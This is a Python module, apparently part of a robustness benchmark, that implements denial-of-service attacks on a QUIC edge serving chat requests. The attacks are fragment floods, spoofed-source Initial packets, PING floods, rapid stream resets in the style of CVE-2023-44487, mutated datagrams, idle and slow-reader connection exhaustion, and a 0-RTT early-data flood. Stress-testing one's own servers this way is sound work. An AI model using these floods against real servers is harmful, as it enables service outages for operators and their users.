"""Attacks on an edge's QUIC port, each awaited against `(host, port)`.

Each returns what the attacker saw; what the attack did to the edge is for the caller to see there.
All of them let other tasks run between datagrams.
"""

from __future__ import annotations

import asyncio
import contextlib
import os
import random
from collections.abc import Callable, Iterable, Sequence
from contextlib import AsyncExitStack
from pathlib import Path

from aioquic import tls
from aioquic.quic.crypto import CryptoPair
from aioquic.quic.packet import QuicPacketType, QuicProtocolVersion
from aioquic.quic.packet_builder import QuicPacketBuilder

from bench.hostile.quic_client import (
    BURST_DATAGRAMS,
    DATAGRAM_BYTES,
    TIMEOUT_S,
    Address,
    HostileClient,
    HostileQuic,
    QuicAttackResult,
    begin,
    chat_frame,
    connected,
    crypto_frame,
    linger,
    pack_frames,
    reset_frame,
    stop_frame,
    stream_frame,
)


class FrameFlood:
    """An attack that connects, sends frames, and stays a little."""

    def __init__(
        self, what: str, num_frames: int, frames: Callable[[HostileClient, int], Iterable[bytes]]
    ) -> None:
        """`what`: in a sentence. `frames`: so many, for a client that is connected."""
        self.__doc__ = what
        self._num_frames = num_frames
        self._frames = frames

    async def __call__(
        self,
        address: Address,
        certificate: Path | None,
        *,
        num_frames: int | None = None,
        hold_s: float = 0.2,
    ) -> QuicAttackResult:
        """Raises TimeoutError where nobody answers."""
        outcome = QuicAttackResult()
        async with connected(address, certificate, outcome) as client:

            def counted() -> Iterable[bytes]:
                for frame in self._frames(client, num_frames or self._num_frames):
                    outcome.num_sent += 1
                    yield frame

            await client.send(counted())
            await linger(client, hold_s)
        return outcome


# What makes an edge allocate.


one_byte_fragments = FrameFlood(
    "Every second byte of a stream, never the first one: as many gaps as bytes.",
    20_000,
    lambda _, count: (stream_frame(0, 1 + 2 * at, b"x") for at in range(count)),
)


async def spoofed_initials(
    address: Address,
    certificate: Path | None = None,
    *,
    num_initials: int = 2000,
    offset: int = 500_000,
    sources: Sequence[str] = ("127.0.0.1",),
    hold_s: float = 0.2,
) -> QuicAttackResult:
    """First packets of as many connections, each with one byte of CRYPTO far ahead; from sockets
    at `sources`, which need not be the sender's own."""
    outcome = QuicAttackResult()
    loop = asyncio.get_running_loop()
    sockets = [
        (
            await loop.create_datagram_endpoint(
                asyncio.DatagramProtocol, remote_addr=address, local_addr=(source, 0)
            )
        )[0]
        for source in sources
    ]
    for number in range(num_initials):
        sockets[number % len(sockets)].sendto(initial([crypto_frame(offset, b"x")]))
        outcome.num_sent += 1
        if number % BURST_DATAGRAMS == 0:
            await asyncio.sleep(0)
    await asyncio.sleep(hold_s)
    for transport in sockets:
        transport.close()
    return outcome


def initial(frames: Iterable[bytes], token: bytes = b"") -> bytes:
    """A datagram with the first packet of a new connection, and these frames in it."""
    peer_cid, version = os.urandom(8), QuicProtocolVersion.VERSION_1
    crypto = CryptoPair()
    crypto.setup_initial(cid=peer_cid, is_client=True, version=version)
    builder = QuicPacketBuilder(
        host_cid=os.urandom(8),
        is_client=True,
        max_datagram_size=DATAGRAM_BYTES,
        peer_cid=peer_cid,
        peer_token=token,
        version=version,
    )
    builder.start_packet(QuicPacketType.INITIAL, crypto)
    payload = b"".join(frames)
    builder.start_frame(payload[0], capacity=len(payload)).push_bytes(payload[1:])
    (datagram,), _ = builder.flush()
    return datagram


# What is cheap to send and costs something to look at.


many_pings = FrameFlood(
    "PINGs, a thousand in a packet.", 200_000, lambda _, count: (b"\x01",) * count
)


async def rapid_resets(
    address: Address,
    certificate: Path | None,
    *,
    num_streams: int = 20_000,
    limit_s: float = 5.0,
    hold_s: float = 0.2,
) -> QuicAttackResult:
    """Streams that are opened with the beginning of a request and reset at once (as
    CVE-2023-44487), as many as the edge goes on to allow, for so long."""
    outcome = QuicAttackResult()
    async with connected(address, certificate, outcome) as client:
        with contextlib.suppress(TimeoutError):
            async with asyncio.timeout(limit_s):
                for number in range(num_streams):
                    while number >= client.quic._remote_max_streams_bidi:
                        # Not wait_for: in Python 3.11 it may lose the limit's cancellation.
                        async with asyncio.timeout(1.0):
                            await client.heard()
                    if client.ended.is_set():
                        break
                    stream_id = 4 * number
                    begun = stream_frame(stream_id, 0, b"\x20x")
                    await client.send((begun, stop_frame(stream_id), reset_frame(stream_id, 2)))
                    outcome.num_sent += 1
        await linger(client, hold_s)
    return outcome


async def mutated_packets(
    address: Address,
    certificate: Path | None,
    *,
    num_packets: int = 2000,
    seed: int = 1,
) -> QuicAttackResult:
    """Datagrams of a true connection with some of their bytes changed."""
    outcome, rng = QuicAttackResult(), random.Random(seed)
    async with connected(address, certificate, outcome, records=True) as client:
        genuine = [*client.sent, *client.quic.packets([stream_frame(0, 0, b"\x20x")])]
        for _ in range(num_packets):
            datagram = bytearray(rng.choice(genuine))
            for _ in range(rng.randrange(1, 8)):
                datagram[rng.randrange(len(datagram))] = rng.randrange(256)
            client.put(bytes(datagram[: rng.randrange(1, len(datagram) + 1)]))
            outcome.num_sent += 1
            if outcome.num_sent % BURST_DATAGRAMS == 0:
                await asyncio.sleep(0)
        await linger(client, 0.1)
    return outcome


# What holds something that others could use.


async def idle_connections(
    address: Address,
    certificate: Path | None,
    *,
    num_connections: int = 1000,
    ping_interval_s: float = 1.0,
    hold_s: float = 5.0,
    source: str | None = None,
) -> QuicAttackResult:
    """Connections that only send PINGs; `num_sent` counts those tried."""
    outcome = QuicAttackResult()
    loop = asyncio.get_running_loop()
    async with AsyncExitStack() as stack:
        clients = []
        for _ in range(num_connections):
            outcome.num_sent += 1
            try:
                client = await stack.enter_async_context(
                    connected(address, certificate, outcome, source=source)
                )
            except TimeoutError:
                continue
            clients.append(client)
        until = loop.time() + hold_s
        while loop.time() < until and any(client.closed is None for client in clients):
            for client in clients:
                if client.closed is None:
                    await client.send([b"\x01\x00\x00\x00"])
            await asyncio.sleep(min(ping_interval_s, hold_s))
    return outcome


async def slow_readers(
    address: Address,
    certificate: Path | None,
    *,
    num_connections: int = 4,
    num_chats: int = 16,
    max_tokens: int = 1000,
    hold_s: float = 5.0,
) -> QuicAttackResult:
    """Chats whose replies are never acknowledged."""
    outcome = QuicAttackResult()

    async def one() -> None:
        async with connected(address, certificate, outcome) as client:
            client.quic.acknowledges = False
            for number in range(num_chats):
                data = chat_frame(f"Tell me all about the number {number}.", max_tokens)
                await client.send([stream_frame(4 * number, 0, data)])
                outcome.num_sent += 1
            await linger(client, hold_s)

    await asyncio.gather(*(one() for _ in range(num_connections)))
    return outcome


async def vanishing_clients(
    address: Address, certificate: Path | None, *, num_clients: int = 50, max_tokens: int = 200
) -> QuicAttackResult:
    """Clients that ask, and are gone."""
    outcome = QuicAttackResult()
    for number in range(num_clients):
        async with connected(address, certificate, outcome) as client:
            data = chat_frame(f"Question number {number}, in some detail.", max_tokens)
            await client.send([stream_frame(0, 0, data)])
            outcome.num_sent += 1
    return outcome


async def many_chats(
    address: Address,
    certificate: Path | None,
    *,
    num_chats: int = 64,
    num_connections: int = 1,
    max_tokens: int = 64,
    words: int = 50,
    hold_s: float = 5.0,
) -> QuicAttackResult:
    """Chats of one client, all at once, each with a prompt of so many words of its own."""
    outcome = QuicAttackResult()

    async def one(connection: int) -> None:
        async with connected(address, certificate, outcome) as client:
            for number in range(num_chats):
                text = " ".join(f"word{connection}x{number}x{at}" for at in range(words))
                client.quic.send_stream_data(4 * number, chat_frame(text, max_tokens))
                outcome.num_sent += 1
            client.transmit()
            await linger(client, hold_s)

    await asyncio.gather(*(one(connection) for connection in range(num_connections)))
    return outcome


# 0-RTT.


def deaf(quic: HostileQuic) -> None:
    """It never completes its handshake."""
    quic.finishes = False


async def ticket_of(address: Address, certificate: Path | None) -> tls.SessionTicket:
    """A ticket to come back with, from a connection that does nothing else."""
    async with connected(address, certificate, QuicAttackResult()) as client:
        async with asyncio.timeout(TIMEOUT_S):
            await client.has_ticket.wait()
        client.quic.close()
        client.transmit()
        return client.tickets[-1]


async def early_data_flood(
    address: Address,
    certificate: Path | None,
    *,
    num_frames: int = 64_000,
    num_streams: int = 1,
    hold_s: float = 0.2,
) -> QuicAttackResult:
    """One-byte STREAM frames in 0-RTT, in order, of a handshake that is never completed."""
    outcome, ticket = QuicAttackResult(), await ticket_of(address, certificate)
    client = await begin(address, certificate, ticket=ticket, tune=deaf)
    frames = (
        stream_frame(4 * (at % num_streams), at // num_streams, b"\x80") for at in range(num_frames)
    )
    for number, payload in enumerate(pack_frames(frames)):
        for datagram in client.quic.packets([payload], early=True):
            client.put(datagram)
        outcome.num_sent += 1
        if number % BURST_DATAGRAMS == 0:
            await asyncio.sleep(0)
    await asyncio.sleep(hold_s)
    client.vanish()
    return outcome
